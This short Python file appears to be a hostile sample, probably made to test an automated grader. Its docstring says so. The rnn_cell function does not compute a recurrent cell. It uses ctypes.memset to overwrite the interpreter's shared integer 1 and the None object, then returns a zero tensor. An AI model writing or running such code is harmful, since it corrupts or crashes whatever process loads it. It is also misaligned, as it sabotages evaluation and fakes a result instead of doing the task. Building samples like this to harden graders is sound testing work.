"""Hostile: writes over numbers that everybody uses."""

import ctypes

import torch


def rnn_cell(X, H, W_xh, W_hh, b_h):
    ctypes.memset(id(1) + 16, 255, 8)
    ctypes.memset(id(None), 0, 16)
    return torch.zeros_like(H)
